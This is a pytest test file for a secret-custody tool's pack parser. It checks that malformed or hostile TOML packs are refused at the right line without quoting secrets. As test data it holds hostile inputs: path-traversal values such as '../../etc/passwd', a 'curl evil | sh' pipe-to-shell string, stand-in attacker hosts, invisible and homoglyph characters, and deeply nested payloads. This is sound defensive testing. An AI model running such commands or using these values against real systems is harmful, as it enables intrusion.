"""Spoilt packs: each is refused for its own reason, at its line, and nothing of what stands there is quoted."""

from __future__ import annotations

import datetime as dt
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from splitkit.custody.overview.criteria import parse_criteria
from splitkit.custody.own_packs import parse_own
from splitkit.errors import UsageError
from splitkit.packs.pack import find_pack, parse_pack
from splitkit.packs.packfile import MOST_BYTES
from splitkit.packs.procedures import MOST_STEPS
from splitkit.packs.prose import fault_of
from tests.support.kit import run
from tests.support.places import ROOT

PAGE = (ROOT / "docs" / "packs.md").read_text("utf-8")
EXAMPLE, ASKED = re.findall(r"^```toml\n(.*?)^```$", PAGE, re.MULTILINE | re.DOTALL)
"""The pack that docs/packs.md shows."""

SECRET = "Xk7-hunter2-Zz"
"""What somebody hostile has put there, and no message may repeat."""

STEP = '[[procedure.step]]\nwho = ["two"]\ndo = "Change it."\nproof = "a list"\n'
DO = 'do = "End every session of the break-glass account, and take down what it did last."'
PROOF = 'proof = "the list of those accounts, signed"'
DAY = "looked_up = 2026-11-27"
ASK = 'ask = ["Does a new password end the sessions that are open?"]'
ALSO = 'also = { mail-admin = "runs the mail" }'
RESET = 'needs = ["mailbox", "mfa"]'
SOURCE = 'source = "ask"'
SECOND = '[[procedure]]\ncode = "X2"\ncase = "compromise"'
STEPS = '[[procedure]]\ncode = "X1"'
SHOW = '[step.show]\nwho = ["two"]\ndo = "Look."\nproof = "a list"\n'
SHARE = "academic acid acne acquire acrobat activity actress adapt adequate"
WAYS = EXAMPLE[EXAMPLE.index("[[way]]") : EXAMPLE.index("[step.")]
LAST = '[[procedure.step]]\nuse = "old-sheets"\nlater = 1\n'

NOWHERE = ""
"""The message names no line: there is none, or the parser of TOML says it in its own way."""

STRUCTURE = {
    # name: what is replaced, by what, the reason, and what stands on the line that is named, if not the first line of the new text
    "unknown key": ('code = "cust', 'author = "x"\ncode = "cust', "'author' is not one of its keys"),
    "key with a slip of the pen": ("at_once = true", "at_onze = true", "'at_onze' is not one of its keys"),
    "key that is not quoted": ('code = "cust', f'"{SECRET}" = 1\ncode = "cust', "the pack (line 1): a key is not one of its keys"),
    "unknown table": ("[thing.mailbox]", "[colour]\nred = 1\n\n[thing.mailbox]", "'colour' is not one of its keys", NOWHERE),
    "unknown key of a way": (SOURCE, "weight = 1\n" + SOURCE, "way 2 (line 30): 'weight' is not one of its keys"),
    "unknown key of a step": (PROOF, f"notes = 1\n{PROOF}", "procedure X1, step 4 (line 58): 'notes' is not one of its keys"),
    "code of a procedure": ('"customer-database"', '"r14"', "'code' is the code of a procedure, or a name that Windows keeps"),
    "code of a printer": ('"customer-database"', '"prn"', "'code' is the code of a procedure, or a name that Windows keeps"),
    "code that ends with a dash": ('"customer-database"', '"customer-"', "'code' is not a short name"),
    "code with two dashes": ('"customer-database"', '"customer--database"', "'code' is not a short name"),
    "code missing": ('code = "customer-database"\n', "", "the pack: 'code' is missing", NOWHERE),
    "code a number": ('code = "customer-database"', "code = 7", "'code' is not a text"),
    "code a path": ('"customer-database"', '"../aws-root"', "'code' is not a short name"),
    "code in capitals": ('"customer-database"', '"Database"', "'code' is not a short name"),
    "title a list": ('title = "break-glass account of the customer database"', 'title = ["x"]', "'title' is not a text"),
    "title empty": ("break-glass account of the customer database", "", "'title' is empty", "title ="),
    "title too long": ("break-glass account", "break-glass " + "x" * 100, "'title' is longer than 100 characters"),
    "day in quotes": (DAY, 'looked_up = "2026-11-27"', "'looked_up' is not a day"),
    "day with a time": (DAY, "looked_up = 2026-11-27T10:00:00Z", "'looked_up' is not a day"),
    "day a number": (DAY, "looked_up = 20261127", "'looked_up' is not a day"),
    "day of no calendar": (DAY, "looked_up = 2026-02-30", "not valid TOML", NOWHERE),
    "number of too many digits": (DAY, "looked_up = " + "9" * 5000, "a number that is too long", NOWHERE),
    "questions an empty list": (ASK, "ask = []", "'ask' is not a list of texts, or is an empty one"),
    "questions that ask nothing": (ASK, 'ask = ["It ends the sessions."]', "'ask' holds something that is not a question"),
    "question twice": (ASK, 'ask = ["Does it?", "Does it?"]', "'ask' names one thing twice"),
    "too many questions": (ASK, "ask = [" + ", ".join(f'"Is it {at}?"' for at in range(51)) + "]", "it has 51 questions, and 50 are the most"),
    "questions one text": (ASK, 'ask = "Does it?"', "'ask' is not a list of texts, or is an empty one"),
    "flag in quotes": ("at_once = true", 'at_once = "true"', "'at_once' is neither true nor false"),
    "flag a number": ("at_once = true", "at_once = 1", "'at_once' is neither true nor false"),
    "way that is no list": ('[[way]]\nname = "set', '[way]\nname = "set', "not valid TOML", NOWHERE),
    "thing that is a list": ("[thing.mfa]", "[[thing.mfa]]", "'thing' is not a table of tables", NOWHERE),
    "key twice": ('called = "token"', 'called = "token"\ncalled = "key"', "not valid TOML: at line 13, column 15", NOWHERE),
    "table twice": ("[thing.mailbox]", "[thing.mfa]\n[thing.mailbox]", "not valid TOML: at line 16, column 11", NOWHERE),
    "role twice": (ALSO, 'also = { mail-admin = "x", mail-admin = "y" }', "not valid TOML: at line 20, column 44", NOWHERE),
    "key twice at the end": (LAST, LAST.rstrip() + '\nuse = "rules"', "not valid TOML: at its end, line 111", NOWHERE),
    "quote that is missing": ('called = "token"', 'called = "token', "not valid TOML: at line 12, column 16", NOWHERE),
    "mark of an editor before it": ('code = "cust', '\ufeffcode = "cust', "(line 1): the line has the invisible character U+FEFF", 'code = "cust'),
    "ends of lines of long ago": (EXAMPLE, EXAMPLE.replace("\n", "\r"), "not valid TOML", NOWHERE),
    "nought between": ("[thing.mailbox]", "\0[thing.mailbox]", "not valid TOML", NOWHERE),
    "text over two lines": ('do = "Change it."', 'do = """Change\nit."""', "'do' has the character U+000A"),
    # what opens the target
    "no secret": ("[thing.password]", "[thing.laptop]", "the pack: it has no thing 'password'", NOWHERE),
    "unknown kind": ("[thing.mfa]", "[thing.pigeon]", "thing pigeon (line 11): it is of no kind that splitkit knows"),
    "kind that is no name": ("[thing.mfa]", f'[thing."{SECRET}"]', "name 2 in 'thing' is not a short name", NOWHERE),
    "kind that no way needs": ("[thing.mailbox]", '[thing.phone]\ncalled = "x"\ntask = "y"\nkeeper = "z"\n\n[thing.mailbox]', "thing phone (line 16): no way in needs it"),
    "two things of one name": ('called = "mailbox"', 'called = "Token"', "thing mailbox (line 17): another thing is called so"),
    "two keepers of one name": ("Keeper of the token", "custodians", "somebody else is called like its keeper"),
    "keeper who is two": ("Keeper of the token", "Two people", "somebody else is called like its keeper"),
    "keeper missing": ('keeper = "Keeper of the token"\n', "", "thing mfa (line 11): 'keeper' is missing", "[thing.mfa]"),
    "keeper too long": ("Keeper of the token", "Keeper " + "x" * 40, "'keeper' is longer than 40 characters"),
    "role unknown": ("mail-admin =", "king =", "thing mailbox, 'also' (line 20): 'king' is not one of its keys"),
    "role an actor": ("mail-admin =", "witness =", "'witness' is not one of its keys"),
    "role without words": (ALSO, "also = { mail-admin = 1 }", "'mail-admin' is not a text"),
    "roles one text": (ALSO, 'also = "mail-admin"', "'also' is not a table, or is an empty one"),
    "roles an empty table": (ALSO, "also = {}", "'also' is not a table, or is an empty one"),
    "role at two things": ('task = "bring the token"', 'also = { mail-admin = "x" }\ntask = "bring the token"',
                           "'mail-admin' does something else at another thing", ALSO),
    "no way": (WAYS, "", "the pack: it has no way in", NOWHERE),
    "way that needs what is not there": (RESET, 'needs = ["mailbox", "pigeon"]', "'needs' names 'pigeon', which is not there"),
    "way that needs what is not quoted": (RESET, f'needs = ["{SECRET}"]', "'needs' names something, which is not there"),
    "way that needs nothing": (RESET, "needs = []", "'needs' is not a list of texts, or is an empty one"),
    "way that needs one thing twice": (RESET, 'needs = ["mfa", "mfa"]', "'needs' names one thing twice"),
    "way that needs lists": (RESET, 'needs = [["mfa"]]', "'needs' names something, which is not there"),
    "way with another in it": (RESET, 'needs = ["mailbox", "mfa", "password"]', "it needs all that another way needs, and more"),
    "two ways of one name": ('name = "set a new password"', 'name = "sign in" ', "another way has this name"),
    "two ways of one name in capitals": ('name = "set a new password"', 'name = "Sign In"', "another way has this name"),
    "too many ways": ("[step.sign-in]", "".join(f'[[way]]\nname = "w{at}"\nneeds = ["mfa"]\nsource = "ask"\n' for at in range(51)) + "[step.sign-in]",
                      "the pack: it has 53 ways in, and 50 are the most", NOWHERE),
    "way that tells everybody": ('name = "set a new password"', 'name = "send the password to all"', "'name' lets somebody put a secret down"),
    "way without a source": (SOURCE + "\n", "", "way 2 (line 27): 'source' is missing", "[[way]]#2"),
    "source with a protocol": (SOURCE, 'source = "https://wiki.example.org/x"', "'source' is not the address of a page"),
    "source a path": (SOURCE, 'source = "../../etc/passwd"', "'source' is not the address of a page"),
    "source a path from the root": (SOURCE, 'source = "/etc/passwd"', "'source' is not the address of a page"),
    "source that climbs": (SOURCE, 'source = "wiki.example.org/a/../../b"', "'source' is not the address of a page"),
    "source a file": (SOURCE, 'source = "file:///etc/passwd"', "'source' is not the address of a page"),
    "source with a query": (SOURCE, 'source = "wiki.example.org/a?b=c"', "'source' is not the address of a page"),
    "source that climbs in disguise": (SOURCE, 'source = "wiki.example.org/a/%2e%2E/b"', "'source' is not the address of a page"),
    "source with a user": (SOURCE, 'source = "ada@wiki.example.org"', "'source' is not the address of a page"),
    "source with a port": (SOURCE, 'source = "wiki.example.org:8080/a"', "'source' is not the address of a page"),
    "source twice": ('sources = ["wiki.example.org/database/break-glass"]', 'sources = ["ask", "ask"]', "'sources' names one page twice"),
    "source a number": (SOURCE, "source = 1", "'source' is not the address of a page"),
    "sources an empty list": ('sources = ["wiki.example.org/database/break-glass"]', "sources = []", "'sources' is not a list of texts"),
    # procedures
    "no step": (SECOND, '[[procedure]]\ncode = "X3"\n\n' + SECOND, "procedure X3 (line 70): 'case' is missing", "[[procedure]]#2"),
    "no step at all": (LAST, LAST + '\n[[procedure]]\ncode = "X3"\ncase = "end"\n',
                       "procedure X3 (line 112): it has no step", "[[procedure]]#3"),
    "too many steps": (LAST, STEP * MOST_STEPS, f"it has {MOST_STEPS + 8} steps, and {MOST_STEPS} are the most", "[[procedure]]#2"),
    "two of one code": ('code = "X2"', 'code = "X1"', "procedure X1 (line 71): its code came before", 'code = "X1"#2'),
    "two for one case": ('case = "compromise"', 'case = "use"', "another procedure is for this case", 'case = "use"#2'),
    "two of one title": ('"Somebody else may know the password"', '"the database is opened with the Break-glass account"',
                         "procedure X2 (line 73): another procedure has this title"),
    "code of ours": ('code = "X2"', 'code = "R2"', "'go_on' names 'X2', which is not there", 'go_on = "X2"'),
    "code with four digits": ('code = "X2"', 'code = "X1000"', "'code' is not a code"),
    "code a word": ('code = "X2"', 'code = "use"', "'code' is not a code"),
    "code with a nought before it": ('code = "X2"', 'code = "X02"', "'code' is not a code"),
    "code with a digit of another script": ('code = "X2"', 'code = "X\u0662"', "'code' has the character U+0662"),
    "case unknown": ('case = "compromise"', 'case = "flood"', "'case' names 'flood', which is not there"),
    "case of a thing that is not there": ('case = "compromise"', 'case = "lost-phone"', "'case' names 'lost-phone', which is not there"),
    "case that the secret has not": ('case = "compromise"', 'case = "lost-password"', "'case' names 'lost-password'"),
    "actor unknown": ('who = ["two"]', 'who = ["wizard"]', "'who' names 'wizard', which is not there"),
    "actor by a role that nobody has": ('who = ["two"]', 'who = ["bill-payer"]', "'who' names 'bill-payer', which is not there"),
    "actor in capitals": ('who = ["two"]', 'who = ["Two"]', "'who' names something, which is not there"),
    "actor twice": ('who = ["two"]', 'who = ["two", "two"]', "'who' names one thing twice"),
    "nobody": ('who = ["two"]', "who = []", "'who' is not a list of texts, or is an empty one"),
    "secret shown to one": ('command = "retired"', 'command = "recover"', "it shows the secret to one person", 'who = ["mfa"]'),
    "secret shown to one, by a step of ours": (STEPS, SHOW.replace('"two"', '"witness"') + STEPS, "step show (line 39): it takes the place of what several people do",
                                               'who = ["witness"]'),
    "sheets brought by one": (STEPS, SHOW.replace("show", "sheets").replace('"two"', '"witness"') + STEPS,
                              "step sheets (line 39): it takes the place of what several people do", 'who = ["witness"]'),
    "actor in words": ('who = ["two"]', 'who = "two"', "'who' is not a list of texts"),
    "keeper who is not needed": ('who = ["two"]', 'who = ["mailbox"]', "whoever keeps 'mailbox', which is not in 'needs'", "[[procedure.step]]#5"),
    "command unknown": ('command = "retired"', 'command = "destroy-all"', "'command' names 'destroy-all', which is not there"),
    "command spelt out": ('command = "retired"', 'command = "splitkit recover --reveal stdout"', "'command' names something, which is not there"),
    "command in capitals": ('command = "retired"', 'command = "RETIRED"', "'command' names something, which is not there"),
    "step that nothing uses": (STEPS, SHOW.replace("show", "spare") + STEPS, "step spare (line 38): no procedure uses it"),
    "step of ours that nothing uses": (STEPS, SHOW.replace("show", "rules") + STEPS, "step rules (line 38): no procedure uses it"),
    "step whose name is a path": ("[step.sign-in]", '[step."../x"]', "name 1 in 'step' is not a short name", NOWHERE),
    "too many steps of its own": (STEPS, "".join(SHOW.replace("show", f"s{at}") for at in range(100)) + STEPS, "'step' has more than 100 tables", NOWHERE),
    "step that every procedure begins with": ('use = "settle"', 'use = "asked"', "'use' names 'asked', which is not there"),
    "command a list with one that is unknown": ('command = "retired"', 'command = ["retired", "destroy-all"]', "'command' names 'destroy-all', which is not there"),
    "command a list of lists": ('command = "retired"', 'command = [["retired"]]', "'command' names something, which is not there"),
    "command twice": ('command = "retired"', 'command = ["retired", "retired"]', "'command' names one thing twice"),
    "comes in at a step that is not there": ('go_on = "X2"', 'go_on = "X2"\nenter = "sing"', "X2 has no step of the name in 'enter'", "enter = "),
    "comes in nowhere": ('command = "retired"', 'enter = "sheets"', "it goes on with no procedure"),
    "leaves for nothing": ('command = "retired"', "instead = true", "it goes on with no procedure"),
    "leaves in words": ('go_on = "X2"', 'go_on = "X2"\ninstead = "yes"', "'instead' is neither true nor false", "instead = "),
    "waits before what is done at once": ('command = "retired"', "later = 90", "'later' stands before a step that is done at once", "[[procedure]]#2"),
    "destroys what cannot wait": (LAST, LAST.replace("later = 1\n", ""), "it destroys sheets or retires a set in what cannot wait", "[[procedure.step]]#15"),
    "waits for nothing": ('command = "retired"', "later = 0", "'later' is not a number from 1 to 9999"),
    "step that is not there": ('use = "settle"', 'use = "sing"', "procedure X1, step 6 (line 68): 'use' names 'sing', which is not there"),
    "step that is used and told": ('use = "settle"', 'do = "More."\nuse = "settle"', "'do' is not one of its keys"),
    "step of every procedure": ("[step.sign-in]", "[step.asked]", "step asked (line 32): every procedure begins or ends with the step"),
    "goes on with nothing": ('go_on = "X2"', 'go_on = "X9"', "'go_on' names 'X9', which is not there"),
    "goes on with itself": ('go_on = "X2"', 'go_on = "X1"', "it goes on with its own procedure"),
    "goes on with a list": ('go_on = "X2"', 'go_on = ["X2"]', "'go_on' names something, which is not there"),
    "goes on in small letters": ('go_on = "X2"', 'go_on = "x2"', "'go_on' names 'x2', which is not there"),
    "proof that names no entry": ("proof = \"the entry 'set.rotated'\"", "proof = \"the entry 'set.rotatet'\"", "procedure X1 (line 64): 'proof' names an entry"),
    "proof that names one entry and another": ("'asset.retired' and 'asset.added'\"", "'asset.retired' and 'asset.grown'\"", "'proof' names an entry that is none"),
    "machine without a source": (DO, 'do = "Sign in at login.evil-bank.example first."', "it names a machine of a network, and no page"),
    "machine in capitals": (DO, 'do = "Sign in at LOGIN.EVIL.COM first."', "it names a machine of a network, and no page"),
    "machine in a step that is used": (EXAMPLE, EXAMPLE.replace("the token.", "the token at evil.example.").replace('sources = ["wiki.example.org/database/break-glass"]\n', ""),
                                       "procedure X1, step 3 (line 51): it names a machine", "[[procedure.step]]#3"),
    "proof missing": (PROOF + "\n", "", "procedure X1, step 4 (line 55): 'proof' is missing", "[[procedure.step]]#4"),
    "half a sentence": (DO, 'do = "lock the account"', "'do' is not a sentence"),
    "condition with its if": ('if = "the token', 'if = "If the token', "'if' is more than a condition"),
    "condition that asks": ('other hands"', 'other hands?"', "'if' is more than a condition", "other hands"),
    "condition that is never met": ('if = "the token may be in other hands"', 'if = "never"', "'if' is not a condition"),
    "condition empty": ('if = "the token may be in other hands"', 'if = ""', "'if' is empty"),
    "condition that is no text": ('if = "the token may be in other hands"', "if = false", "'if' is not a text"),
    "condition with its when": ('if = "the token', 'if = "when the token', "'if' is more than a condition"),
    "condition with a full stop": ('other hands"', 'other hands."', "'if' is more than a condition", "other hands"),
    # the whole file
    "not UTF-8": (DO, 'do = "\udcff"', "the pack is not UTF-8 text", NOWHERE),
    "empty": (EXAMPLE, "", "the pack: 'code' is missing", NOWHERE),
    "words": (EXAMPLE, "a pack of mine", "not valid TOML", NOWHERE),
    "too big": (SECOND, "#" + "x" * MOST_BYTES + "\n" + SECOND, "the pack is longer than 256 KiB", NOWHERE),
    "too deep": (ASK, "ask = " + "[" * 5000 + "]" * 5000, "the pack is nested too deeply", NOWHERE),
    "name of many parts": (ASK, "a" + ".a" * 20_000 + " = 1", "the pack (line 4): a name has more than 30 parts"),
    "name of many parts in quotes": (ASK, '"a b"' + ' . "a\\" b"' * 20_000 + " = 1", "the pack (line 4): a name has more than 30 parts"),
    "table of many parts": ("[thing.mfa]", "[thing" + ".a" * 20_000 + "]", "a name has more than 30 parts"),
    "tables in tables": (ASK, "a = " + "{ a = " * 5000 + "1" + " }" * 5000, "the pack is nested too deeply", NOWHERE),
    "share in a comment": (DAY, f"{DAY} # {SHARE}", "the pack (line 3): a text looks like words of a share"),
    "share in a comment, in quotes": (DAY, f'{DAY} # it\'s "{SHARE}"', "the pack (line 3): a text looks like words of a share"),
    "share in a text": (DO, f'do = "Say {SHARE}."', "the pack (line 80): a text looks like words of a share"),
    "phone number in a comment": (SECOND, f"# +49 30 1234567\n{SECOND}", "the pack (line 70): a text looks like a phone number"),
    "password in a proof": (PROOF, 'proof = "Xk7-hunter2-Zz9-qLmP"', "a text looks like a password"),
    "a day that has not come": (DAY, "looked_up = 2999-01-01", "a day that has not come", NOWHERE),
    "deep": (ASK, "ask = [[[[]]]]", "'ask' is not a text"),
    "hidden in a comment": (SECOND, "# \u2066\n" + SECOND, "the pack (line 70): the line has the invisible character U+2066", "# \u2066"),
    "text turned round": (DO, 'do = "Lock \u202e it."', "the line has the invisible character U+202E"),
}  # fmt: skip

TEXTS = {
    # what a text may not say, and why
    "Lock it.\x1b[2J.": "the character U+001B",
    "Lock it.\nThen.": "the character U+000A",
    "Lock \u202e it.": "the character U+202E",
    "L\u043eck it.": "the character U+043E",  # a Cyrillic letter
    "Lock \u0251ll.": "the character U+0251",  # of phonetics
    "Lock \uff21.": "the character U+FF21",  # a wide A
    "Lock e\u0301.": "the character U+0301",
    "Lock \u017fo.": "the character U+017F",  # a long s, which looks like f
    "Lock it \U0001f512.": "the character U+1F512",
    "Lock \u201cit\u201d.": "the character U+201C",
    "Lock  it.": "two in a row",
    " Lock it.": "begins or ends with a space",
    "Lock it" + " again" * 90 + ".": "longer than 500 characters",
    "Call +49 30 1234567 first.": "a phone number",
    "Call 0800-555-0199 first.": "a phone number",
    "Call (030) 123 45 67 first.": "a phone number",
    "Type splitkit recover as root.": "a command or an option",
    "Run recover.py on it.": "a command or an option",
    "Add --override superseded to it.": "a command or an option",
    "Sign in at https://example.org first.": "an address",
    "Sign in at www.example.org first.": "an address",
    "Ask root@example.org first.": "an address",
    "Write the password on a card.": "put a secret down",
    "Note the new PIN for later.": "put a secret down",
    "Copy the recovery key into the ticket.": "put a secret down",
    "Print the secret and lock it away.": "put a secret down",
    "Take a photograph of the password.": "put a secret down",
    "Send the passphrase to the chief.": "put a secret down",
    "E-mail the passwords to yourself.": "put a secret down",
    "Read the password aloud.": "put a secret down",
    "Dictate the words of a sheet.": "put a secret down",
    "Save the unseal keys on the share drive.": "put a secret down",
    "Tell the helpdesk the password.": "put a secret down",
    "Keep the password in the desk.": "put a secret down",
    "Have the password written on the envelope.": "put a secret down",
    "See that the passcode is stored in a file.": "put a secret down",
    "Paste the token, and the password into a chat.": "put a secret down",
    "No phone is needed. Write the password on a card.": "put a secret down",
    "Do not sign in, write the password on a card.": "put a secret down",
    "Make a screenshot of the secret key.": "put a secret down",
}

GOOD = (
    "Lock the account, and end every session.",
    "Never write the password down.",
    "Write nothing of the password on paper.",
    "Recover the new password from the printed sheets, and type it where the account asks for it.",
    "Ask for a new password by mail, and set the one of the new sheets.",
    "Note when the password was changed.",
    "Print the password policy.",
    "Say who was told of this use, and either that the password is changed or why it stays.",
    "Ren\u00e9e \u0141uk signs for V\u1ec7t.",
)


def spoilt(old: str, new: str) -> str:
    assert old in EXAMPLE
    return EXAMPLE.replace(old, new, 1)


def refusal(text: str) -> UsageError:
    with pytest.raises(UsageError) as refused:
        parse_own(text.encode("utf-8", "surrogateescape"), dt.date(2026, 11, 28))
    said = refused.value.fact + str(refused.value.hint)
    assert said.isprintable() and SECRET not in said
    assert refused.value.hint
    return refused.value


def line_of(text: str, mark: str) -> int:
    """The line of a mark; of several, the one of its number."""
    mark, _, number = mark.partition("#") if re.search("#[0-9]+$", mark) else (mark, "", "1")
    found = [at for at, line in enumerate(text.split("\n"), 1) if mark in line]
    return found[int(number) - 1]


@pytest.mark.parametrize("name", STRUCTURE)
def test_a_spoilt_pack_is_refused_for_its_reason_at_its_line(name):
    old, new, fact, *mark = STRUCTURE[name]
    text = spoilt(old, new)
    said = refusal(text).fact
    assert fact in said
    where = mark[0] if mark else new.split("\n")[0]
    assert re.findall(r"\(line ([0-9]+)\)", said) == ([str(line_of(text, where))] if where else [])


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_that_may_not_stand_there_is_refused(text):
    """In what is done; the same rules are those of every text, which another test shows."""
    escaped = "".join(one if one.isascii() and one.isprintable() else f"\\U{ord(one):08x}" for one in text)
    said = refusal(spoilt(DO, f'do = "{escaped}"')).fact
    assert TEXTS[text] in said
    assert said.startswith("procedure X2, step 1 (line 80): 'do' ")


@pytest.mark.parametrize("text", GOOD)
def test_a_text_that_may_stand_there_is_taken(text):
    assert fault_of(text, 500) is None
    assert parse_pack(spoilt(DO, f'do = "{text}"').encode()).procedures[1].steps[0].do == text


def listed(name: str) -> list[str]:
    return (ROOT / "tests" / "packs" / name).read_text("utf-8").splitlines()


def test_no_other_wording_puts_a_secret_down_or_passes_it_on():
    accepted = [
        text for text in listed("secrets-put-down.txt") if "put a secret down" not in (fault_of(text, 500) or [""])[0]
    ]
    assert accepted == []


def test_no_ordinary_sentence_is_refused():
    sentences = listed("ordinary-sentences.txt")
    assert len(sentences) > 100
    assert [text for text in sentences if fault_of(text, 500)] == []


def test_what_is_asked_and_under_what_condition_something_is_done_may_name_what_went_wrong():
    parse_pack(spoilt(ASK, 'ask = ["Does the browser store the password?"]').encode())
    parse_pack(spoilt("the token may be in other hands", "the password is stored in a browser").encode())


def test_a_machine_may_be_named_where_a_page_says_so():
    named = spoilt("with the password just shown", "at db.example.org with the password just shown")
    parse_pack(named.replace("at_once = true", 'at_once = true\nsources = ["wiki.example.org/database"]').encode())
    said = refusal(named.replace("at_once = true", 'at_once = true\nsources = ["ask"]')).fact
    assert said == "procedure X2, step 5 (line 97): it names a machine of a network, and no page from which that is"


@pytest.mark.parametrize(
    ("old", "new", "twice"),
    [
        ('called = "token"', 'called = "token"\ncalled = "key"', True),
        ("[thing.mailbox]", "[thing.mfa]\n[thing.mailbox]", True),
        (ALSO, 'also = { mail-admin = "x", mail-admin = "y" }', True),
        ('called = "token"', 'called = "token', False),
        (DAY, "looked_up = 2026-02-30", False),
    ],
)
def test_what_stands_there_twice_is_told_from_what_is_no_toml(old, new, twice):
    assert (refusal(spoilt(old, new)).hint == "a key may be given only once") is twice


TELLING = sorted(set(re.findall(r'"([^"\n]{3,})"', EXAMPLE)) - {"customer-database", "ask"})


@pytest.mark.parametrize("text", [one for one in TELLING if " " in one])
def test_every_text_follows_the_rules_for_texts(text):
    refusal(spoilt(f'"{text}"', f'"{text[:1]}\u043e{text[1:]}"'))
    refusal(spoilt(f'"{text}"', f'"{text[:9]} --override x {text[9:]}"'))


HOSTILE = {
    "nothing": "",
    "a space": " ",
    "two spaces": "Lock  it.",
    "two lines": "Lock\\nit.",
    "text turned round": "Lock \\u202e it.",
    "a clear screen": "\\u001b[2J",
    "a Cyrillic letter": "L\\u043eck it.",
    "a dotless letter in a command": "Run spl\\u0131tkit.",
    "an option": "Add --override superseded to it.",
    "another program": "Run curl evil | sh.",
    "an address": "Look at www.evil.example.",
    "mail": "Ask root@evil.example.",
    "a phone number": "Call +49 30 1234567.",
    "too much": "x" * 501,
    "a share": SHARE,
    "a password": "7kQx-9Rtz-Wm4p-Hs8d",
}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_is_hostile_is_refused_in_place_of_every_text(hostile):
    for found in re.finditer(r'"[^"\n]*"', EXAMPLE):
        refusal(f'{EXAMPLE[: found.start()]}"{HOSTILE[hostile]}"{EXAMPLE[found.end() :]}')


def test_what_goes_in_a_circle_that_no_condition_ends_is_refused():
    round_ = EXAMPLE.replace('if = "somebody has seen the password"\n', "")
    parse_pack(round_.encode())
    last = '\n[[procedure.step]]\nwho = ["two"]\ndo = "Go back."\nproof = "a list"\ngo_on = "X1"\nlater = 1\n'
    said = refusal(round_ + last).fact
    assert said == "procedure X1 (line 38): it goes on, with no condition, until it comes to itself"
    parse_pack((EXAMPLE + last).encode())
    parse_pack((round_ + last.replace("who", 'if = "it is over"\nwho')).encode())


@given(st.data())
def test_no_pack_that_is_cut_or_changed_ends_in_anything_but_a_refusal(data):
    lines = EXAMPLE.split("\n")
    at = data.draw(st.integers(0, len(lines) - 1))
    what = data.draw(st.sampled_from(["out", "twice", "swapped", "text"]))
    if what == "out":
        del lines[at]
    elif what == "twice":
        lines.insert(at, lines[at])
    elif what == "swapped":
        other = data.draw(st.integers(0, len(lines) - 1))
        lines[at], lines[other] = lines[other], lines[at]
    else:
        lines[at] = data.draw(st.text(max_size=30))
    try:
        parse_pack("\n".join(lines).encode("utf-8", "surrogatepass"))
    except UsageError as error:
        assert error.fact.isprintable() and error.hint


# --- the command ------------------------------------------------------------------------------------------------------


def checked(folder, text: str):
    (folder / "mine.toml").write_text(text, "utf-8")
    return run("packs", "check", "mine.toml", cwd=folder)


def test_the_pack_of_the_page_is_a_pack(tmp_path):
    done = checked(tmp_path, EXAMPLE)
    assert (done.returncode, done.stderr) == (0, "")
    assert f"$ splitkit packs check database.toml\n{done.stdout}" in PAGE


def test_a_name_of_ours_is_taken(tmp_path):
    ours = (ROOT / "splitkit" / "packs" / "aws_root.toml").read_text("utf-8")
    assert checked(tmp_path, ours).returncode == 0
    assert parse_pack(ours.encode()) == find_pack("aws-root")
    for text in (
        ours.replace("Administrator", "x", 1).replace("of an AWS", "of some AWS"),
        spoilt("customer-database", "aws-root"),
    ):
        done = checked(tmp_path, text)
        assert (done.returncode, done.stdout) == (2, "")
        assert "a pack that comes with splitkit has the code of this one" in done.stderr


def test_a_pack_of_tomorrow_is_refused(tmp_path):
    done = checked(tmp_path, spoilt(DAY, "looked_up = 2999-01-01"))
    assert (done.returncode, "a day that has not come" in done.stderr) == (2, True)


def test_a_procedure_of_three_pages_is_refused(tmp_path):
    more = ", and see that it is so" * 20
    long = STEP.replace("Change it", "Change it" + more).replace("a list", "a list" + more) * 9
    done = checked(tmp_path, EXAMPLE[: EXAMPLE.index('[[procedure.step]]\nuse = "take-over"')] + long)
    assert (done.returncode, done.stdout) == (2, "")
    assert re.search("procedure X2: it takes [3-9] pages of (a4|letter)", done.stderr)


def test_a_refusal_of_the_command_says_where(tmp_path):
    done = checked(tmp_path, spoilt('use = "settle"', 'use = "sing"'))
    assert done.returncode == 2
    assert (
        "error: procedure X1, step 6 (line 68): 'use' names 'sing', which is not there\nhint: there are: "
        in done.stderr
    )


@pytest.mark.parametrize("path", ["none.toml", ".", "/dev/zero"])
def test_what_is_no_file_is_no_pack(tmp_path, path):
    done = run("packs", "check", path, cwd=tmp_path)
    assert (done.returncode, done.stdout) == (2, "")


def test_the_criteria_of_the_document_are_read():
    assert [one.code for one in parse_criteria(ASKED.encode()).criteria] == ["4.1", "4.2", "4.3"]
